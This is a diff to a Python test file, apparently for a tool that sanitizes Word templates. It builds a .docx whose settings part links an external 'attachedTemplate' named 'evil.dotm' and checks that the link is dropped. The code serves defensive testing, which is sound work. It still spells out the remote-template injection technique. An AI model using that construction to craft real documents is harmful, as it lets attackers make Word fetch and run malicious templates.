@@ -202,6 +202,7 @@ def test_an_honest_template_comes_nowhere_near_the_limits() -> None:
 # --- what a filled document would fetch or run -----------------------------------------------------------
 
 _REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
 
 
 def with_relation(kind: str, target: str, *, mode: str = ' TargetMode="External"', **more: str) -> bytes:
@@ -265,11 +266,17 @@ def test_the_template_of_a_template_is_dropped(tmp_path: Path) -> None:
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
         f'Type="{_REL}/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
     )
+    override = f'<Override PartName="/word/settings.xml" ContentType="{_SETTINGS}"/></Types>'
+    types = parts_of(docx("ก"))["[Content_Types].xml"].decode().replace("</Types>", override)
     data = with_relation(
         "settings",
         "settings.xml",
         mode="",
-        **{"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels},
+        **{
+            "[Content_Types].xml": types,
+            "word/settings.xml": settings,
+            "word/_rels/settings.xml.rels": rels,
+        },
     )
     path = tmp_path / "sheet.docx"
     path.write_bytes(data)
